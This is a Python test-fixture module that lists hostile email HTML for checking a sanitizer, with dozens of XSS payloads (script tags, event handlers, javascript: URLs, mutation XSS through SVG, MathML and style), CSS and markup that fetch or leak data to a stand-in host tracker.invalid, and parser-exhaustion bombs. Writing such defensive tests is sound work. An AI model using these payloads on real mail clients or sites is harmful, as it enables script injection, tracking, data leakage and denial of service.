"""HTML of hostile mails, by what it tries: to run a script, to send a request, or to reach outside of its view."""

from collections.abc import Callable

_OUT = "https://tracker.invalid/x"

TRICKS = {
    "script": "<p>seen</p><script>alert(1)</script><script src='https://tracker.invalid/x.js'></script>",
    "script split by a NUL": "<p>seen</p><scr\0ipt>alert(1)</scr\0ipt>",
    "script in capitals, unclosed": "<p>seen</p><SCRIPT SRC=//tracker.invalid/x.js",
    "event handlers": "<p onclick=alert(1) onmouseover='alert(1)'>seen</p><img src=x onerror=alert(1)><body onload=a()>",
    "event handler after a slash": "<p>seen</p><img/src=x/onerror=alert(1)//>",
    "event handler with odd white space": "<p>seen</p><img src=x\x0conerror\x0c=alert(1)>",
    "javascript URL": "<a href='javascript:alert(1)'>seen</a><a href=' \x01javascript:alert(1)'>b</a>",
    "javascript URL with references": "<a href='jav&#x09;ascript&colon;alert(1)'>seen</a>",
    "vbscript, file and blob URLs": "<a href='vbscript:x'>seen</a><a href='file:///etc/passwd'>b</a><a href='blob:x'>c</a>",
    "data URL of a page": "<a href='data:text/html,<script>alert(1)</script>'>seen</a>",
    "relative link to the API": "<a href='/api/v1/admin/accounts'>seen</a><a href='//tracker.invalid/x'>b</a>",
    "svg": "<p>seen</p><svg onload=alert(1)><script>alert(1)</script><image href='https://tracker.invalid/x'/></svg>",
    "svg animation of a link": "<p>seen</p><svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "svg as a data URL": "<p>seen</p><img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'>",
    "math": "<p>seen</p><math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    "mutation through math and style": "<p>seen</p><math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation through svg and style": "<p>seen</p><svg></p><style><a title='</style><img src=1 onerror=alert(1)>'>",
    "mutation through noscript": "<p>seen</p><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "mutation through form and table": "<p>seen</p><form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "mutation through a comment": "<p>seen</p><!--><img src=x onerror=alert(1)>--><!--!><script>alert(1)</script>-->",
    "mutation through textarea and xmp": "<p>seen</p><textarea></p><xmp><img src=x onerror=alert(1)></xmp></textarea>",
    "mutation through a backslash in a style sheet": r"<p>seen</p><style>a{}<\/style><img src=x onerror=alert(1)>"
    r"<form action=x></style><style><<\\\/style><img src=x onerror=alert(1)></style>",
    "CDATA": "<p>seen</p><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg><![CDATA[<script>alert(1)</script>]]>",
    "template": "<p>seen</p><template><script>alert(1)</script><img src=https://tracker.invalid/x></template>",
    "iframe": f"<p>seen</p><iframe src='{_OUT}'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frameset": f"<frameset><frame src='{_OUT}'></frameset><p>seen</p>",
    "object, embed and applet": f"<p>seen</p><object data='{_OUT}'></object><embed src='{_OUT}'><applet code=x></applet>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={_OUT}'><p>seen</p>",
    "meta that sets a policy": "<meta http-equiv=Content-Security-Policy content='img-src *'><p>seen</p>",
    "base": f"<base href='{_OUT}'><a href='x'>seen</a>",
    "link": f"<link rel=stylesheet href='{_OUT}'><link rel=dns-prefetch href='{_OUT}'><p>seen</p>",
    "form": f"<p>seen</p><form action='{_OUT}'><input name=q autofocus onfocus=alert(1)><button formaction='{_OUT}'>b",
    "remote image": f"<p>seen</p><img src='{_OUT}.png' alt=logo><img src=http://tracker.invalid/1.gif width=1 height=1>",
    "srcset and picture": f"<p>seen</p><picture><source srcset='{_OUT} 2x'><img srcset='{_OUT} 2x' sizes=100vw></picture>",
    "lazy and low sources": f"<p>seen</p><img lowsrc='{_OUT}' dynsrc='{_OUT}' longdesc='{_OUT}' loading=lazy>",
    "audio, video and track": f"<p>seen</p><video poster='{_OUT}' src='{_OUT}'><track src='{_OUT}'></video><audio src='{_OUT}'>",
    "ping and download": f"<a href='https://shop.example/' ping='{_OUT}' download=x.exe>seen</a>",
    "background attribute": f"<table background='{_OUT}'><tr><td background='{_OUT}'>seen</td></tr></table>",
    "CSS url()": f"<p style='background:url({_OUT})'>seen</p><style>p{{background:url(\"{_OUT}\")}}</style>",
    "CSS url() by escapes": f"<p style='background:u\\72 l({_OUT})'>seen</p><style>p{{background:\\75\\72\\6c({_OUT})}}</style>",
    "CSS @import": f"<style>@import '{_OUT}';@IMPORT url({_OUT});@\\69mport '{_OUT}';</style><p>seen</p>",
    "CSS fonts": f"<style>@font-face{{font-family:x;src:url({_OUT})}}p{{font-family:x}}</style><p>seen</p>",
    "CSS image-set": f"<p style=\"background:image-set('{_OUT}' 1x);cursor:-webkit-image-set('{_OUT}' 1x),auto\">seen</p>",
    "CSS expression and binding": f"<p style='width:expression(alert(1));-moz-binding:url({_OUT}#a);behavior:url({_OUT})'>seen</p>",
    "CSS variables": f"<style>:root{{--a:url({_OUT})}}p{{background:var(--a)}}</style><p>seen</p>",
    "CSS in a broken comment": f"<style>/* </style><p>seen</p><style> */ p{{background:URL( {_OUT} )}}</style>",
    "CSS that reads attributes": f"<style>a[href^='https://s']{{background:url({_OUT})}}</style><a href='https://s.example'>seen</a>",
    "style that closes itself": "<style>a{b:'</style><img src=x onerror=alert(1)>'}</style><p>seen</p>",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><p>seen</p>",
    "XML processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><p>seen</p>",
    "link with a window name": "<a href='https://shop.example/' target=_top rel=opener>seen</a>",
    "UTF-7": "<meta charset=utf-7><p>seen</p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "dialog and popover over the page": "<p>seen</p><dialog open style='position:fixed;inset:0'>x</dialog>"
    "<div popover=auto id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p autofocus>y</button>",
    "CSS that covers the page": f"<p>seen</p><div style='position:fixed;inset:0;z-index:2147483647;background:url({_OUT})'>"
    "<a href='https://shop.example/' style='display:block;height:100vh'>x</a></div>",
    "CSS of other elements": f"<p>seen</p><style>li{{list-style:url({_OUT})}}p::after{{content:url({_OUT})}}"
    f"p{{border-image:url({_OUT}) 1;cursor:url({_OUT}),auto;shape-outside:url({_OUT})}}</style><ul><li>x</ul>",
    "CSS filters and masks of SVG": f"<p style='filter:url({_OUT}#a);clip-path:url({_OUT}#a);mask:url({_OUT}#a)'>seen</p>",
    "CSS image functions": f"<p style=\"background:image('{_OUT}'),src('{_OUT}'),-webkit-cross-fade(url({_OUT}),url({_OUT}),1%)\">"
    "seen</p><style>p{background:paint(x)}</style>",
    "CSS @import in a layer": f"<style>@layer a;@import url({_OUT}) layer(a) supports(display:grid);@import'{_OUT}'screen;</style>"
    "<p>seen</p>",
    "CSS fonts by character": f"<style>@font-face{{font-family:x;src:local(x),url('{_OUT}') format('woff2');unicode-range:u+0-ff}}"
    "*{font-family:x}</style><p>seen</p>",
    "CSS animation with handlers": "<style>@keyframes x{to{color:red}}</style>"
    "<p style='animation:x 1ms' onanimationend=alert(1) onanimationstart=alert(1) ontransitionend=alert(1)>seen</p>",
    "event handler of details and marquee": "<details open ontoggle=alert(1)><summary>seen</summary></details>"
    "<marquee onstart=alert(1) loop=1>x</marquee><meter onpointerrawupdate=alert(1)>x</meter>",
    "event handler of a thing with the focus": "<p tabindex=1 autofocus onfocus=alert(1) onfocusin=alert(1)>seen</p>"
    "<p contenteditable autofocus onfocus=alert(1) accesskey=x onclick=alert(1)>x</p><keygen autofocus onfocus=alert(1)>",
    "script of rules for speculation": "<p>seen</p><script type=speculationrules>"
    f'{{"prefetch":[{{"urls":["{_OUT}"]}}]}}</script><script type=importmap>{{"imports":{{"a":"{_OUT}"}}}}</script>',
    "script as a module and in a data URL": "<p>seen</p><script type=module src='data:text/javascript,alert(1)'></script>"
    "<script src='data:text/javascript,alert(1)' defer async nonce=x></script>",
    "link that fetches early": "".join(
        f"<link rel='{rel}' href='{_OUT}' as=image>"
        for rel in ("preload", "prefetch", "preconnect", "modulepreload", "icon", "manifest", "prerender", "import")
    )
    + "<p>seen</p>",
    "meta that sets a cookie and a referrer": "<meta http-equiv=set-cookie content='a=b'><meta name=referrer content=unsafe-url>"
    f"<meta http-equiv=Link content='<{_OUT}>;rel=preload;as=image'><p>seen</p>",
    "remote image by its old name": f"<p>seen</p><image src='{_OUT}.png'><input type=image src='{_OUT}.png'>",
    "remote image that reports": f"<p>seen</p><img attributionsrc='{_OUT}' src='{_OUT}' crossorigin=use-credentials>"
    f"<a attributionsrc='{_OUT}' href='https://shop.example/'>x</a>",
    "remote image in odd spellings": "<p>seen</p><img src='//tracker.invalid/1'><img src='\\\\tracker.invalid/2'>"
    "<img src=' https://tracker.invalid/3 '><img src='ht\ntps://tracker.invalid/4'><img src='https:/\ttracker.invalid/5'>",
    "remote image with the rest of the page in it": f"<p>seen</p><img src='{_OUT}?",
    "iframe by other names": f"<p>seen</p><fencedframe src='{_OUT}'></fencedframe><webview src='{_OUT}'></webview>"
    f"<ilayer src='{_OUT}'></ilayer><layer src='{_OUT}'></layer><bgsound src='{_OUT}'>",
    "template that is a shadow": f"<div><template shadowrootmode=open><img src='{_OUT}'><slot></slot></template>seen</div>",
    "image map": f"<p>seen</p><img usemap='#m' ismap src='{_OUT}'><map name=m><area href='javascript:alert(1)' ping='{_OUT}' "
    "shape=default></map>",
    "svg with use and a foreign object": f"<p>seen</p><svg><use href='{_OUT}#a'/><foreignObject><img src='{_OUT}'>"
    f"<iframe src='{_OUT}'></iframe></foreignObject><feImage href='{_OUT}'/><set attributeName=href to='{_OUT}'/></svg>",
    "javascript URL with named references": "<a href='java&NewLine;script&colon;alert&lpar;1&rpar;'>seen</a>"
    "<a href='&#1;&#x1F;javascript&colon;alert(1)'>b</a><a href='view-source:x'>c</a><a href='about:blank'>d</a>",
    "names of what scripts ask for": "<p>seen</p><img name=getElementById id=location><a id=document name=cookie href='#x'>b</a>",
    "plaintext": "<p>seen</p><plaintext><script>alert(1)</script><img src=https://tracker.invalid/x>",
    "custom element and slot": f"<p>seen</p><x-a onclick=alert(1) is=x><slot></slot></x-a><portal src='{_OUT}'></portal>",
}
"""Each shows the word `seen`. Nothing else of it may be run, fetched or followed without a click."""

BOMBS: dict[str, Callable[[], str]] = {
    "nested 400,000 deep": lambda: "<div>" * 400_000 + "seen",
    "formatting begun again in every paragraph": lambda: (
        "<div>" + "".join(f"<font size={n}>" for n in range(3_000)) + "</div>" + "<p>seen</p>" * 3_000
    ),
    "tables in cells that end nothing": lambda: "<div><table><td></div></table>" * 60_000 + "seen",
    "links that are begun again": lambda: "<a href=x><table>" * 50_000 + "seen",
    "one tag with 200,000 attributes": lambda: "<p " + " ".join(f"a{n}=1" for n in range(200_000)) + ">seen",
    "style sheets that never end": lambda: "<style>" * 200_000 + "seen",
    "attributes that look like style sheets": lambda: "<p title='<style'>" * 80_000 + "seen",
    "two megabytes of `url(`": lambda: f"<p style='{'url(' * 500_000}'>seen</p>",
    "comments that never end": lambda: "seen" + "<!--" * 500_000,
    "references": lambda: "seen" + "&#x41;" * 300_000,
}
"""Each costs the time or memory of its square, or more, where nothing bounds it."""
